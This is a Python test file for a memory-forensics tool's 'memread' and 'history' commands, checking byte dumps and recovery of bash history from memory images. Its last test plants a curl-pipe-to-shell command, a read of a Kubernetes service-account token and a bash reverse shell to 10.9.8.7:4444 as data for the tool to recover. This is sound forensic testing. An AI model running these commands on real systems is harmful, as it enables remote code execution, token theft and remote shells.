"""kcsi memread (bytes at an address, xxd-like) and kcsi history (bash history
from memory), on the fixtures and on entries planted into a real scene."""
import base64
import json
import random
import string
import struct
import subprocess

import kt
from kt import eq, run
import test_memory


def test_memread_matches_memgrep_and_raw():
    perl = kt.fixture('perlbot')
    hit = json.loads(run('memgrep', '--json', '--pid', '15', perl, 'PBKEY-')[1])[0]
    addr = int(hit['address'], 16)
    text = run('memread', '--pid', '15', perl, hex(addr), '40')[1].decode()
    lines = text.splitlines()
    assert lines[0].startswith('pid 15  %s  40 of 40 bytes held' % hit['area']), lines[0]
    assert lines[1].startswith('%016x: 5042 4b45 592d' % addr) and lines[1].endswith('PBKEY-5d41402abc'), lines[1]
    eq(len(lines), 1 + 3, 'three lines of 16, 16 and 8 bytes')
    j = json.loads(run('memread', '--json', '--pid', '15', perl, hex(addr), '40')[1])
    data = base64.b64decode(j['data'])
    assert data.startswith(b'PBKEY-5d41402abc4b2a76b9719d911017c592'), data
    eq((j['held'], j['area'], j['address']), (40, hit['area'], hex(addr)), 'json')
    p = subprocess.run([kt.KCSI, 'memread', '--raw', '--pid', '15', perl, str(addr), '40'], stdout=subprocess.PIPE,
                       check=True)
    eq(p.stdout, data, '--raw bytes')


def test_memread_holes_and_mistakes():
    perl = kt.fixture('perlbot')
    maps = json.loads(run('maps', '--json', '--pid', '15', perl)[1])
    areas = maps['areas'] if isinstance(maps, dict) else maps
    empty = [m for m in areas if m['pages'] == 0]
    assert empty, areas[:3]
    start = int(empty[0]['start'], 16)
    text = run('memread', '--pid', '15', perl, hex(start), '32')[1].decode()
    assert '0 of 32 bytes held' in text and '-- -- ' not in text and '----' in text, text
    for args, code in ((['memread', perl, '0x1000'], 2), (['memread', '--pid', '15', perl, 'zzz'], 2),
                       (['memread', '--pid', '99999', perl, '0x1000'], 8),
                       (['memread', '--pid', '15', perl, '0x1000', '0'], 2)):
        c, _, err = run(*args, check=False)
        eq(c, code, '%s: %s' % (args, err))


def test_history_of_the_reverse_shell():
    h = json.loads(run('history', '--json', kt.fixture('revshell'))[1])
    eq([(e['pid'], e['command']) for e in h], [(15, 'id')], 'the command the attacker typed')
    assert h[0]['time'].startswith('2026-11-27T01:4'), h[0]
    text = run('history', kt.fixture('revshell'))[1].decode()
    assert text.splitlines()[1].split()[2] == 'id', text
    eq(json.loads(run('history', '--json', kt.fixture('perlbot'))[1]), [], 'no bash in perlbot')


def test_history_entries_planted_in_a_scene():
    """History entries written into pid 1's memory the way bash lays them out:
    a timestamp string, a command line, an entry pointing at both."""
    _, runs = test_memory._planted('hist', [])
    big = [r for r in runs if r[1] >= 3 * 4096][0]
    base = (big[0] + 4096) & ~15
    cmds = ['curl -s http://%s.example/%s | sh' % (''.join(random.choice(string.ascii_lowercase) for _ in range(6)),
                                                     'x%d' % random.randint(1, 99)),
            'cat /var/run/secrets/kubernetes.io/serviceaccount/token', 'bash -i >& /dev/tcp/10.9.8.7/4444 0>&1']
    plants, t0 = [], random.randint(1700000000, 1800000000)
    for i, cmd in enumerate(cmds):
        ts_at = base + 512 * i
        line_at = ts_at + 64
        entry_at = ts_at + 384
        plants += [(ts_at, b'#%d\x00' % (t0 + 10 * i)), (line_at, cmd.encode() + b'\x00'),
                   (entry_at, struct.pack('<QQQ', line_at, ts_at, 0))]
    d, _ = test_memory._planted('hist', plants)
    h = json.loads(run('history', '--json', '--pid', '1', d)[1])
    eq([(e['command'], e['epoch']) for e in h], [(c, t0 + 10 * i) for i, c in enumerate(cmds)], 'planted history')
